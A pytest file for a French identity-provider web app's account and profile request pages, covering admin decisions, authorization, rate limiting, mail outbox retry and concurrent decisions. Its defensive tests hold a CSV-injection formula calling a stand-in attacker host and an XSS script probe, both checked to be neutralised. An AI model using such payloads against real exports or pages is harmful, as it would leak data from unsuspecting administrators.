"""The request pages with a real SMTP server: « Créer un compte » (duplicate check, the
request form), « + Demander un profil », the administrators' queues, decisions and CSV
export, the first password; bad input, abuse and the authorization rules by URL."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from html import unescape
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import selectinload
from werkzeug.test import TestResponse

from idp.core.audit import AuditEvent
from idp.core.clock import utcnow
from idp.directory.enums import EntityType, RequestStatus
from idp.directory.models import Entity, ProfileRequest
from idp.extensions import db
from idp.outbox import delivery
from idp.outbox import service as outbox
from idp.outbox.models import OutboxItem
from idp.requests.forms import ENTITY_FROM_LIST
from tests.support import directory as d
from tests.support.html import csrf_token
from tests.support.services import SmtpSink, body_of, free_port
from tests.support.sql import statements_of

NEW_PASSWORD = "Premier-secret-2027!"
# The CSRF token belongs to the session, not to a form: any page with a form gives it.
ANY_FORM = "/compte/creer"
# The code rides after "#": browsers never send it, so no access log keeps it.
ACTIVATION = re.compile(r"http://idp\.test(/compte/activation)#([A-Za-z0-9_-]+)")


def _token(client: FlaskClient, path: str) -> str:
    return csrf_token(client.get(path).get_data(as_text=True))


def post(client: FlaskClient, form_path: str, data: dict[str, Any],
         action: str | None = None) -> TestResponse:
    response = client.post(action or form_path,
                           data={"csrf_token": _token(client, form_path), **data})
    outbox.wait_idle()
    return response


def text(response: TestResponse) -> str:
    return unescape(response.get_data(as_text=True))


def log_in(client: FlaskClient, identifier: str) -> None:
    response = post(client, "/connexion", {"identifier": identifier,
                                           "password": d.PASSWORD})
    assert response.status_code == 302, text(response)


def plain(entity: Any) -> SimpleNamespace:
    return SimpleNamespace(id=entity.id, code=entity.code, name=entity.name)


def build_world(app: Flask) -> SimpleNamespace:
    """The ANCRE world plus an OG administrator, as plain values: the tests' clients
    must not run inside an app context of their own (it would share `g`, and with it
    the CSRF token, between the browsers)."""
    with app.app_context():
        w = d.ancre_world()
        og_admin = d.account("Odile", "Gestion")
        d.profile(og_admin, w.og, "Direction OG", "ADMINISTRATION/APE")
        db.session.commit()
        return SimpleNamespace(
            app=app, og=plain(w.og), etab_x=plain(w.etab_x), etab_y=plain(w.etab_y),
            ape=w.ape.identifier, ape_email=w.ape.email, og_admin=og_admin.identifier,
            person=w.person.identifier, person_email=w.person.email,
            person_id=w.person.id, outsider=w.outsider.identifier)


def pending(app: Flask) -> ProfileRequest | None:
    with app.app_context():
        found = db.session.scalar(select(ProfileRequest).options(
            selectinload(ProfileRequest.routes)))
        if found is not None:
            db.session.expunge(found)
        return found


@pytest.fixture
def world(make_app: Any, sqlite_url: str, smtp_sink: SmtpSink) -> Iterator[SimpleNamespace]:
    app: Flask = make_app(sqlite_url, mail={"backend": "smtp", "smtp_host": smtp_sink.host,
                                            "smtp_port": smtp_sink.port})
    yield build_world(app)
    outbox.wait_idle()


def newcomer(w: SimpleNamespace, **overrides: Any) -> dict[str, Any]:
    return {"entity": w.etab_x.code, "entity_search": "EHPAD Les Tilleuls",
            "wants_ape": "oui", "family_name": "Nouvelle", "given_name": "Léa",
            "label": "Direction", "applications": ["TDBESMS"],
            "email": "lea@example.test", "email_confirm": "lea@example.test",
            "phone": "03 86 12 34 56", "address": "", "comment": "", **overrides}


def test_a_newcomer_s_ape_request_decided_by_the_og(world: SimpleNamespace,
                                                    smtp_sink: SmtpSink) -> None:
    app = world.app
    visitor = app.test_client()
    assert "Créer un compte" in text(visitor.get("/"))
    assert "Créer un compte" in text(visitor.get("/connexion"))
    step1 = post(visitor, "/compte/creer", {"given_name": "Léa", "family_name": "Nouvelle"})
    assert step1.status_code == 200 and "Nouveau profil" in text(step1)
    line = visitor.get(f"/demandes/entites/{world.etab_x.code}/destinataires").get_json()
    assert world.og.name in line["oui"] and world.etab_x.name in line["non"]
    assert world.etab_x.code in [e["code"] for e in
                                 visitor.get("/demandes/entites?q=tilleuls").get_json()]

    sent = post(visitor, "/compte/creer", newcomer(world), "/compte/creer/demande")
    assert sent.status_code == 200, text(sent)
    assert "Votre demande a été envoyée" in text(sent)
    to = {m["To"]: m for m in smtp_sink.received()}
    assert set(to) == {"lea@example.test", "odile.gestion@example.test"}
    assert "a bien été enregistrée" in to["lea@example.test"]["Subject"]
    decide_mail = body_of(to["odile.gestion@example.test"])
    assert "administrateur principal" in decide_mail and world.etab_x.name in decide_mail
    request_id = int(re.search(r"/profils/demandes/(\d+)", decide_mail).group(1))

    # The establishment's current APE neither sees nor decides it; the OG does.
    ape = app.test_client()
    log_in(ape, world.ape)
    assert ape.get(f"/profils/demandes/{request_id}").status_code == 403
    assert f'data-request-id="{request_id}"' not in text(ape.get("/profils/demandes?vue=niveau"))
    og = app.test_client()
    log_in(og, world.og_admin)
    assert f'data-request-id="{request_id}"' in text(og.get("/profils/demandes?vue=niveau"))
    smtp_sink.messages.clear()
    decided = post(og, f"/profils/demandes/{request_id}",
                   {"decision": "accepter", "comment": "Bienvenue <b>Léa</b>"})
    assert decided.status_code == 302
    again = post(og, ANY_FORM, {"decision": "refuser"}, f"/profils/demandes/{request_id}")
    assert again.status_code == 409 and "déjà été traitée" in text(again)

    to = {m["To"]: m for m in smtp_sink.received()}
    assert set(to) == {"lea@example.test", world.ape_email}
    replaced = body_of(to[world.ape_email])
    assert "Léa Nouvelle a été nommé administrateur principal (APE)" in " ".join(replaced.split())
    assert "reste administrateur" in replaced
    accepted = to["lea@example.test"]
    body = body_of(accepted)
    assert accepted["To"] == "lea@example.test" and "Bienvenue <b>Léa</b>" in body
    identifier = re.search(r"Votre identifiant Plage : (\d+)", body).group(1)
    page, code = ACTIVATION.search(body).groups()
    assert f"copiez celui-ci :\n{code}" in body  # to paste where scripts do not run
    newbie = app.test_client()
    asked = post(newbie, page, {"code": code})
    assert asked.status_code == 200 and identifier in text(asked)
    chosen = post(newbie, page, {"code": code, "password": NEW_PASSWORD,
                                 "confirm": NEW_PASSWORD})
    assert chosen.status_code == 302
    again = post(newbie, page, {"code": code})
    assert again.status_code == 400 and "plus valable" in text(again)  # single use
    signed = post(newbie, "/connexion", {"identifier": identifier, "password": NEW_PASSWORD})
    assert signed.status_code == 302
    assert "Nouvelle" in text(newbie.get("/compte/"))


def test_the_duplicate_check_reveals_nothing(world: SimpleNamespace, smtp_sink: SmtpSink) -> None:
    app = world.app
    known = post(app.test_client(), "/compte/creer",
                 {"given_name": "elodie", "family_name": " MARTIN "})
    unknown = post(app.test_client(), "/compte/creer",
                   {"given_name": "Zoé", "family_name": "Personne"})
    strip = re.compile(r'(name="csrf_token" type="hidden" value=")[^"]+|'
                       r'(value=")(?:elodie|MARTIN|Zoé|Personne)')
    assert strip.sub("", known.get_data(as_text=True)) == \
        strip.sub("", unknown.get_data(as_text=True))
    [mail] = smtp_sink.received()
    assert mail["To"] == world.person_email
    assert f"identifiant {world.person}" in body_of(mail)
    assert world.person not in known.get_data(as_text=True)


def test_the_duplicate_check_does_the_same_work_whatever_the_name(
        world: SimpleNamespace, smtp_sink: SmtpSink) -> None:
    # Nor does its timing tell: the holders are looked up and mailed in the background.
    def check(given: str, family: str) -> list[str]:
        client = world.app.test_client()
        token = _token(client, "/compte/creer")
        return statements_of(world.app, lambda: client.post("/compte/creer", data={
            "csrf_token": token, "given_name": given, "family_name": family}))

    assert check("Élodie", "Martin") == check("Zoé", "Personne")
    assert len(smtp_sink.received()) == 1


def test_bad_input_is_answered_next_to_each_field(world: SimpleNamespace) -> None:
    client = world.app.test_client()
    response = post(client, "/compte/creer", newcomer(
        world, entity="", entity_search="<script>alert(1)</script>", email_confirm="x@y.test",
        phone="abc", label="", given_name="x" * 200, applications=["NOPE"]),
        "/compte/creer/demande")
    page = text(response)
    assert response.status_code == 400
    for message in ("Choisissez l'entité dans la liste proposée",
                    "Les deux adresses électroniques saisies sont différentes.",
                    "Saisissez un numéro de téléphone valide",
                    "Veuillez renseigner le libellé de votre profil.",
                    "Ce champ ne peut dépasser 120 caractères.",
                    "Choisissez les applications dans la liste."):
        assert message in page
    assert "<script>alert(1)</script>" not in response.get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.get_data(as_text=True)
    assert pending(world.app) is None


def test_what_a_requester_typed_is_exported_as_text_not_as_a_formula(
        world: SimpleNamespace) -> None:
    """« Créer un compte » is open to anyone: a name or a comment that a spreadsheet
    would run (CSV injection) reaches the administrator's export as plain text."""
    formula = '=HYPERLINK("https://attacker.example/?"&A1;"Cliquez")'
    visitor = world.app.test_client()
    post(visitor, "/compte/creer", {"given_name": "Léa", "family_name": "@Nouvelle"})
    sent = post(visitor, "/compte/creer", newcomer(world, wants_ape="non",
                                                   family_name="@Nouvelle", comment=formula),
                "/compte/creer/demande")
    assert sent.status_code == 200, text(sent)
    ape = world.app.test_client()
    log_in(ape, world.ape)
    body = ape.get("/profils/demandes.csv").get_data().decode("utf-8-sig")
    [row] = [r for r in csv.reader(io.StringIO(body), delimiter=";") if "'@Nouvelle" in r]
    assert "'" + formula in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_account_requests_are_rate_limited_per_address(world: SimpleNamespace) -> None:
    client = world.app.test_client()
    statuses = [post(client, "/compte/creer", newcomer(world, wants_ape="non",
                                                        label=f"P{i}"),
                     "/compte/creer/demande").status_code for i in range(4)]
    assert statuses == [200, 200, 200, 429]


def test_a_second_profile_then_a_refusal_with_a_comment(world: SimpleNamespace,
                                                        smtp_sink: SmtpSink) -> None:
    app = world.app
    person = app.test_client()
    log_in(person, world.person)
    form = {"entity": world.og.code, "entity_search": world.og.name, "wants_ape": "non",
            "label": "Siège", "applications": ["ANCRE"], "comment": ""}
    confirm = post(person, "/compte/demandes/nouvelle", form)
    assert "Valider l'envoi de la demande aux administrateurs." in text(confirm)
    # To whom it will go, written by the server (the page's script is not needed).
    assert re.search(r'Votre demande sera envoyée aux administrateurs Plage sur [^.]*'
                     + re.escape(world.og.name), text(confirm))
    assert pending(app) is None
    done = post(person, "/compte/demandes/nouvelle", {**form, "step": "confirmer"})
    assert done.status_code == 302
    filed = pending(app)
    assert filed is not None
    assert filed.account_id == world.person_id and filed.routes[0].entity_id == world.og.id

    og = app.test_client()
    log_in(og, world.og_admin)
    assert f'data-request-id="{filed.id}"' in text(og.get("/profils/demandes"))
    csv_body = og.get("/profils/demandes.csv").get_data()
    assert csv_body.startswith("\ufeff".encode()) and b";" in csv_body
    assert "Siège".encode() in csv_body
    smtp_sink.messages.clear()
    post(og, f"/profils/demandes/{filed.id}", {"decision": "refuser",
                                               "comment": "Pas de poste au siège"})
    [refused] = smtp_sink.received()
    assert "refusée" in refused["Subject"] and "Pas de poste au siège" in body_of(refused)
    mine = text(person.get("/compte/demandes"))
    assert "Refusée" in mine and "Pas de poste au siège" in mine


def test_a_pending_request_is_withdrawn_by_its_author_only(world: SimpleNamespace) -> None:
    app = world.app
    person, other = app.test_client(), app.test_client()
    log_in(person, world.person)
    log_in(other, world.outsider)
    form = {"entity": world.etab_y.code, "entity_search": "x", "wants_ape": "non",
            "label": "Verger", "applications": ["ANCRE"], "step": "confirmer"}
    post(person, "/compte/demandes/nouvelle", form)
    filed = pending(app)
    assert filed is not None
    assert "Verger" not in text(other.get("/compte/demandes"))
    assert post(other, ANY_FORM, {},
                f"/compte/demandes/{filed.id}/retirer").status_code == 404
    post(person, "/compte/demandes", {}, f"/compte/demandes/{filed.id}/retirer")
    assert pending(app).status == RequestStatus.WITHDRAWN  # type: ignore[union-attr]


def test_an_administrator_of_x_reaches_nothing_of_y(world: SimpleNamespace) -> None:
    app = world.app
    with app.app_context():
        other_entity = d.entity(d.finess("25000009"), EntityType.ET, "Foyer Ailleurs",
                                finess_number=d.finess("25000009"), departement="25",
                                region="27")
        stranger = d.account("Yves", "Ailleurs")
        d.profile(stranger, other_entity, "APE Ailleurs", "ADMINISTRATION/APE")
        db.session.commit()
        stranger_id = stranger.identifier
    visitor = app.test_client()
    post(visitor, "/compte/creer", newcomer(world, wants_ape="non"), "/compte/creer/demande")
    filed = pending(app)
    assert filed is not None

    client = app.test_client()
    log_in(client, stranger_id)
    assert client.get(f"/profils/demandes/{filed.id}").status_code == 403
    assert post(client, ANY_FORM, {"decision": "accepter"},
                f"/profils/demandes/{filed.id}").status_code == 403
    for view in ("entite", "niveau"):
        assert "Nouvelle" not in text(client.get(f"/profils/demandes?vue={view}"))
        assert b"Nouvelle" not in client.get(f"/profils/demandes.csv?vue={view}").get_data()
    assert pending(app).status == RequestStatus.PENDING  # type: ignore[union-attr]
    # Not an administrator at all: no queue; not signed in: the login page.
    plain = app.test_client()
    log_in(plain, world.outsider)
    assert plain.get("/profils/demandes").status_code == 403
    assert plain.get("/profils/demandes.csv").status_code == 403
    assert app.test_client().get("/profils/demandes").status_code == 302


def test_a_request_is_stored_while_the_mail_server_is_down(make_app: Any,
                                                           sqlite_url: str) -> None:
    port = free_port()
    app = make_app(sqlite_url, mail={"backend": "smtp", "smtp_host": "127.0.0.1",
                                     "smtp_port": port, "smtp_timeout": 5})
    w = build_world(app)
    sent = post(app.test_client(), "/compte/creer", newcomer(w, wants_ape="non"),
                "/compte/creer/demande")
    assert sent.status_code == 200
    assert pending(app) is not None
    with app.app_context():
        waiting = db.session.scalars(select(OutboxItem.id)).all()
    assert len(waiting) == 2  # the confirmation, the entity's APE
    sink = SmtpSink.start(port=port)
    try:
        with app.app_context():
            later = utcnow() + timedelta(minutes=2)
            assert sorted(delivery.deliver_due(now=later).delivered) == sorted(waiting)
        assert {m["To"] for m in sink.received()} == {"lea@example.test", w.ape_email}
    finally:
        sink.stop()


def test_two_administrators_deciding_at_once_on_the_page_get_one_decision(
        make_app: Any, database_url: str, smtp_sink: SmtpSink) -> None:
    """Two OG administrators press « Créer le profil » and « Refuser la demande » at the
    same moment (two writers): one decision, and for the other its page with the clear
    message, never a 503. On SQLite the second writer waits for the first's lock (the
    transaction opens at the decision's conditional UPDATE, `busy_timeout` lets it wait:
    with no wait this test gets a 503), then finds the request decided."""
    app = make_app(database_url, mail={"backend": "smtp", "smtp_host": smtp_sink.host,
                                       "smtp_port": smtp_sink.port})
    world = build_world(app)
    with app.app_context():
        second = d.account("Gaston", "Gestion")
        d.profile(second, db.session.get(Entity, world.og.id), "Direction OG 2",
                  "ADMINISTRATION/ADMINISTRATEUR")
        db.session.commit()
        second_admin = second.identifier
    post(app.test_client(), "/compte/creer", newcomer(world), "/compte/creer/demande")
    filed = pending(app)
    assert filed is not None
    path = f"/profils/demandes/{filed.id}"
    clients = []
    for identifier, decision in ((world.og_admin, "accepter"), (second_admin, "refuser")):
        client = app.test_client()
        log_in(client, identifier)
        clients.append((client, {"csrf_token": _token(client, path), "decision": decision}))
    start, answers = threading.Barrier(2), []

    def decide(client: FlaskClient, form: dict[str, str]) -> None:
        start.wait()
        response = client.post(path, data=form)
        answers.append((response.status_code, text(response)))

    threads = [threading.Thread(target=decide, args=pair) for pair in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(status for status, _ in answers) == [302, 409], answers
    assert "déjà été traitée" in next(page for status, page in answers if status == 409)
    with app.app_context():
        decided = db.session.scalars(select(AuditEvent.action).where(
            AuditEvent.action.in_(["profile_request.accept", "profile_request.refuse"]))).all()
    assert len(decided) == 1
    outbox.wait_idle()


def test_the_entity_is_chosen_from_a_list_the_server_makes(world: SimpleNamespace) -> None:
    """Without the page's script: « Rechercher l'entité » answers the form again with the
    matching entities as choices and what was typed kept; text typed but not chosen is
    refused with the same list; the choice then files the request."""
    person = world.app.test_client()
    log_in(person, world.person)
    form = {"entity_search": "verger", "wants_ape": "non", "label": "Verger <i>bis</i>",
            "applications": ["ANCRE"], "comment": "Merci"}
    searched = post(person, "/compte/demandes/nouvelle", {**form, "entity_lookup": "1"})
    page = text(searched)
    assert searched.status_code == 200 and "error-text" not in page
    assert f'name="entity" id="entity-1" value="{world.etab_y.code}" checked' in page
    assert world.etab_x.code not in page
    assert 'value="Verger &lt;i&gt;bis&lt;/i&gt;"' in searched.get_data(as_text=True)
    assert re.search(r'<input checked[^>]*value="ANCRE"', page) and "Merci" in page
    unchosen = post(person, "/compte/demandes/nouvelle", form)
    assert unchosen.status_code == 400 and ENTITY_FROM_LIST in text(unchosen)
    assert f'value="{world.etab_y.code}"' in text(unchosen)
    assert pending(world.app) is None
    post(person, "/compte/demandes/nouvelle",
         {**form, "entity": world.etab_y.code, "step": "confirmer"})
    filed = pending(world.app)
    assert filed is not None and filed.entity_id == world.etab_y.id
